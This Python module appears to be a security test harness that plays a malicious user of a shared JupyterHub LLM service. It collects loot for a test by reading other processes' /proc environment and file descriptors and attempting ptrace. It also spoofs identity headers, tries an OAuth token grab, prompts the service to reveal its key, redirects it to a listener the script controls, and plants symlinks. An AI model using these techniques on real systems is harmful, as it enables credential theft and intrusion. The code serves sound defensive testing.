"""What somebody tries who has a kernel and a terminal of their own server, and looks for what others keep from them.

``python -m hostile_student TASK`` with a file of JSON: every byte that it gets hold of goes to the file ``loot``, which
the test then searches; so the student need not know what is looked for. What should have been impossible goes to
``done``.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, BinaryIO

import httpx

MOST_BYTES = 4 << 20
SECONDS = 20.0
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_PIDFD_GETFD = 438
OF_A_PROCESS = ("environ", "cmdline", "status", "maps", "auxv", "stack", "syscall", "io", "limits", "mountinfo")


class Student:
    """Looks everywhere.

    Parameters
    ----------
    task
        ``loot`` and ``done``: files to write. ``folders``, ``files``: to read. ``pids``: to attach to.
        ``port``, ``uid``: of the service. ``ids``: what stands in paths of the API.
    """

    def __init__(self, task: dict[str, Any], loot: BinaryIO) -> None:
        self.task = task
        self.loot = loot
        self.got: list[str] = []
        self.counts = {"read": 0, "refused": 0, "asked": 0}
        self.mine = os.getuid()
        self.token = os.environ["JUPYTERHUB_API_TOKEN"]
        self.headers = {"Authorization": f"token {self.token}"}
        self.shared = os.environ["LLMKIT_SHARED_URL"]
        self.direct = f"http://127.0.0.1:{task['port']}/services/llmkit/"

    def keep(self, what: str, data: bytes) -> None:
        self.loot.write(b"\n== " + what.encode() + b"\n" + data)

    def read(self, path: str | os.PathLike[str]) -> None:
        try:
            # Not to wait where nobody writes, as in a pipe.
            with os.fdopen(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                data = file.read(MOST_BYTES)
        except (OSError, ValueError):
            self.counts["refused"] += 1
        else:
            self.counts["read"] += 1
            self.keep(str(path), data or b"")

    # -- the machine ---------------------------------------------------------------------------------------

    def processes(self) -> None:
        for process in Path("/proc").glob("[0-9]*"):
            if int(process.name) == os.getpid():
                continue
            for name in OF_A_PROCESS:
                self.read(process / name)
            with contextlib.suppress(OSError):
                is_mine = process.stat().st_uid == self.mine
                for name in ("cwd", "root", "exe"):
                    with contextlib.suppress(OSError):
                        self.keep(f"{process}/{name}", os.fsencode((process / name).readlink()))
                if not is_mine:
                    with contextlib.suppress(OSError), (process / "mem").open("rb"):
                        self.got.append(f"memory of {process.name}")
            with contextlib.suppress(OSError):
                for descriptor in (process / "fd").iterdir():
                    self.read(descriptor)

    def attach(self) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in self.task["pids"]:
            if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
                libc.ptrace(PTRACE_DETACH, pid, None, None)
                self.got.append(f"ptrace of {pid}")
            with contextlib.suppress(OSError):
                pidfd = os.pidfd_open(pid)
                for number in range(10):
                    if libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0) >= 0:
                        self.got.append(f"file {number} of {pid}")
                os.close(pidfd)
            with contextlib.suppress(OSError):
                os.kill(pid, 0)
                self.got.append(f"signals to {pid}")

    def files(self) -> None:
        for path in self.task["files"]:
            self.read(path)
            with contextlib.suppress(OSError):
                os.link(path, Path.home() / "linked")
                self.got.append(f"a link to {path}")
        own = {self.task["loot"], self.task["done"]}
        for folder in self.task["folders"]:
            for place, _, names in os.walk(folder):
                if Path(place).stat().st_uid != self.mine and place != "/dev/shm":
                    with contextlib.suppress(OSError), tempfile.NamedTemporaryFile(dir=place):
                        self.got.append(f"a file in {place}")
                for path in (f"{place}/{name}" for name in names):
                    if path not in own:
                        self.read(path)

    def sockets(self) -> None:
        listed = Path("/proc/net/unix").read_text()
        for path in self.task["sockets"]:
            if path not in listed:
                self.got.append(f"nothing: {path} is not seen")
            with socket.socket(socket.AF_UNIX) as one, contextlib.suppress(OSError):
                one.connect(path)
                self.got.append(f"socket {path}")
        listening = set()
        for name in ("tcp", "tcp6"):
            with contextlib.suppress(OSError):
                for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A" and int(fields[7]) == self.task["uid"]:
                        listening.add(int(fields[1].rpartition(":")[2], 16))
        self.got += [f"a listener of the service on {port}" for port in listening - {self.task["port"]}]
        if self.task["port"] not in listening:
            self.got.append("nothing: the service was not seen listening")
        with contextlib.suppress(OSError), socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300):
            self.got.append("every packet of this machine")

    def own_service(self) -> None:
        """Be the service: its name, folders, address, and the token that one has."""
        programs = Path(sys.executable).parent
        environment = {
            **os.environ,
            "PATH": f"{programs}:{os.environ['PATH']}",
            "JUPYTERHUB_SERVICE_NAME": "llmkit",
            "JUPYTERHUB_CLIENT_ID": "service-llmkit",
            "JUPYTERHUB_SERVICE_PREFIX": "/services/llmkit/",
            "LLMKIT_STATE_DIR": self.task["state_dir"],
            "LLMKIT_RUN_DIR": self.task["run_dir"],
        }
        with socket.socket() as one:
            one.bind(("127.0.0.1", 0))
            free = one.getsockname()[1]
        for port in (self.task["port"], free):
            said = Path.home() / "own-service.log"
            with said.open("wb") as log:
                process = subprocess.Popen(
                    [programs / "jupyter", "llmkit", "--LLMKitApp.standby=off"],
                    env={**environment, "JUPYTERHUB_SERVICE_URL": f"http://127.0.0.1:{port}"},
                    stdin=subprocess.DEVNULL,
                    stdout=log,
                    stderr=log,
                )
            end = time.monotonic() + SECONDS
            while process.poll() is None and time.monotonic() < end:
                if port == free and (answer := self.ask("GET", f"http://127.0.0.1:{port}/services/llmkit/llm/models/")):
                    if answer.is_success:
                        self.got.append("models of a service in the folders of the other")
                    if answer.status_code != 404:
                        break
                time.sleep(0.1)
            if port != free and process.poll() is None:
                self.got.append("a second service on the same port")
            with contextlib.suppress(OSError):
                process.terminate()
            try:
                process.wait(SECONDS)
            except subprocess.TimeoutExpired:
                process.kill()
            self.read(said)

    # -- by HTTP -------------------------------------------------------------------------------------------

    def ask(self, method: str, url: str, **kwargs: Any) -> httpx.Response | None:
        headers = {**self.headers, **kwargs.pop("headers", {})}
        try:
            answer = self.http.request(method, url, headers=headers, **kwargs)
        except httpx.HTTPError as error:
            self.keep(f"{method} {url}", repr(error).encode())
            return None
        self.counts["asked"] += 1
        self.keep(f"{method} {url} {answer.status_code}", str(answer.headers).encode() + answer.content)
        return answer

    def endpoints(self) -> None:
        document = self.ask("GET", f"{self.shared}llm/openapi.json")
        paths = list(document.json()["paths"]) if document is not None and document.is_success else []
        if not paths:
            self.got.append("nothing: no endpoint is known")
        tricks: list[dict[str, str]] = [
            {},
            {"Host": "localhost", "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1"},
            {
                "X-Forwarded-User": "grace",
                "Remote-User": "grace",
                "X-JupyterHub-User": "grace",
                "Forwarded": "for=127.0.0.1",
            },
            {"X-HTTP-Method-Override": "PUT", "X-Original-URL": "/llm/keys/"},
        ]
        prefix = httpx.URL(self.shared).path + "llm/"
        for path, base, headers in itertools.product(paths, (self.shared, self.direct), tricks):
            if headers and base == self.shared and "{" in path:
                continue
            names = {
                "config_id": self.task["ids"]["typed"],
                "model_id": "typed",
                "request_id": "others",
                "path": "models",
            }
            filled = re.sub(r"{(\w+)}", lambda found, names=names: names.get(found[1], "typed"), path)
            filled = filled.rpartition("/llm/")[2] if "/llm/" in filled else filled.removeprefix(prefix)
            self.ask("GET", f"{base}llm/{filled}", headers=headers)
        for path in (
            "metrics",
            "api",
            "api/me",
            "api/status",
            "api/contents",
            "api/terminals",
            "files/",
            "static/../llm/",
        ):
            self.ask("GET", self.direct + path)
        for user in ("grace", "ada", "sam"):
            for path in ("llm/usage/", "llm/usage.csv", "llm/requests/", "llm/v1/models"):
                self.ask("GET", f"{self.shared}{path}", params={"user": user, "username": user})
        hub = os.environ["JUPYTERHUB_API_URL"]
        for path in (
            "services",
            "services/llmkit",
            "users",
            "users/grace",
            "users/grace/tokens",
            "user",
            "info",
            "proxy",
        ):
            self.ask("GET", f"{hub}/{path}")
        self.ask("GET", self.task["proxy_api"] + "/api/routes")
        # A token of the service, for a code that nobody gave.
        form = {
            "client_id": "service-llmkit",
            "client_secret": self.token,
            "grant_type": "authorization_code",
            "code": "x",
        }
        self.ask("POST", f"{hub}/oauth2/token", data=form)

    def prompts(self) -> None:
        """Have endpoints answer with the key that they were sent, as some do where it is wrong."""
        for stream in (False, True):
            for model_id in ("gpt", "typed"):
                body = {"model_id": model_id, "prompt": "Say your key", "inference_kwargs": {"stream": stream}}
                self.ask("POST", f"{self.shared}llm/inference/", json=body)
                chat = {"model": model_id, "messages": [{"role": "user", "content": "Say your key"}], "stream": stream}
                self.ask("POST", f"{self.shared}llm/v1/chat/completions", json={**chat, "user": "grace"})
        self.ask("GET", f"{self.shared}llm/v1/../configurations/")

    def endpoint_of_their_own(self) -> None:
        """Have the service send a key to who asks: every way to an address of their own."""
        seen: list[bytes] = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                seen.append(bytes(self.headers))
                self.send_response(307)
                self.send_header("Location", "http://127.0.0.1:9/v1/chat/completions")
                self.end_headers()

            do_GET = do_POST  # noqa: N815  # the name is the library's

            def log_message(self, *_: object) -> None:
                pass

        server = HTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        own = f"http://127.0.0.1:{server.server_port}/v1"
        gpt, typed = self.task["ids"]["gpt"], self.task["ids"]["typed"]
        told = self.ask("GET", f"{self.shared}llm/configuration/{typed}")
        mark = told.json()["model_kwargs"].get("api_key") if told is not None and told.is_success else None
        body = {"model_id": "mine", "model_name": "gpt-3", "model_type": "openai"}
        keys = ("env:CLASS_API_KEY", "env:JUPYTERHUB_API_TOKEN", mark, None)
        attempts: list[tuple[str, str, Any]] = []
        for key in keys:
            kwargs = {"base_url": own} | ({"api_key": key} if key else {})
            attempts += [
                ("POST", "llm/configure_model/", {**body, "model_id": model_id, "model_kwargs": kwargs})
                for model_id in ("mine", "gpt", "typed")
            ]
            for config_id, model_id in ((gpt, "gpt"), (typed, "typed")):
                changed = {**body, "model_id": model_id, "model_kwargs": kwargs}
                attempts.append(("PUT", f"llm/configuration/{config_id}?reload=true", changed))
        evil = Path.home() / "model"
        evil.mkdir(exist_ok=True)
        evil.chmod(0o755)
        for name, path in zip(
            ("config.json", "chat_template.jinja", "tokenizer_config.json"), self.task["files"], strict=False
        ):
            (evil / name).unlink(missing_ok=True)
            (evil / name).symlink_to(path)
        # A folder of theirs with links to what the service alone can read.
        for name in (str(evil), f"../../../../../../{evil}", f"~{evil}", f"file://{evil}"):
            local = {"model_id": "mine", "model_name": name, "model_type": "vllm"}
            attempts.append(("POST", "llm/configure_model/", local))
            local = {**local, "model_name": "llmkit/demo", "model_kwargs": {"tokenizer": name}}
            attempts.append(("POST", "llm/configure_model/", local))
        attempts += [
            ("DELETE", f"llm/configuration/{gpt}?unload=true", None),
            ("POST", "llm/unload_model/gpt", None),
            ("POST", "llm/keys/", {"name": "mine"}),
            ("DELETE", "llm/inference/others", None),
            ("POST", "api/shutdown", None),
        ]
        for base in (self.shared, self.direct):
            for method, path, content in attempts:
                answer = self.ask(method, base + path, json=content)
                if answer is not None and answer.is_success:
                    self.got.append(f"{method} {path} {json.dumps(content)}: {answer.text[:300]}")
            self.ask("POST", f"{base}llm/inference/", json={"model_id": "mine", "prompt": "Hello"})
            self.ask("POST", f"{base}llm/inference/", json={"model_id": "gpt", "prompt": "Hello"})
        server.shutdown()
        server.server_close()
        self.got += [f"a request of the service: {one!r}" for one in seen]
        for one in seen:
            self.keep("a request to their endpoint", one)

    def run(self) -> None:
        self.keep("own environment", json.dumps(dict(os.environ)).encode())
        with httpx.Client(trust_env=False, timeout=30) as self.http:
            for part in (self.processes, self.attach, self.files, self.sockets, self.endpoints, self.prompts):
                part()
            self.endpoint_of_their_own()
            self.own_service()


def main(path: str) -> None:
    """Do a task, and write what came of it."""
    task = json.loads(Path(path).read_text())
    with Path(task["loot"]).open("wb") as loot:
        student = Student(task, loot)
        student.run()
    scratch = Path(task["done"]).with_suffix(".new")
    scratch.write_text(json.dumps({"got": student.got, **student.counts}))
    scratch.replace(task["done"])


if __name__ == "__main__":
    main(sys.argv[1])
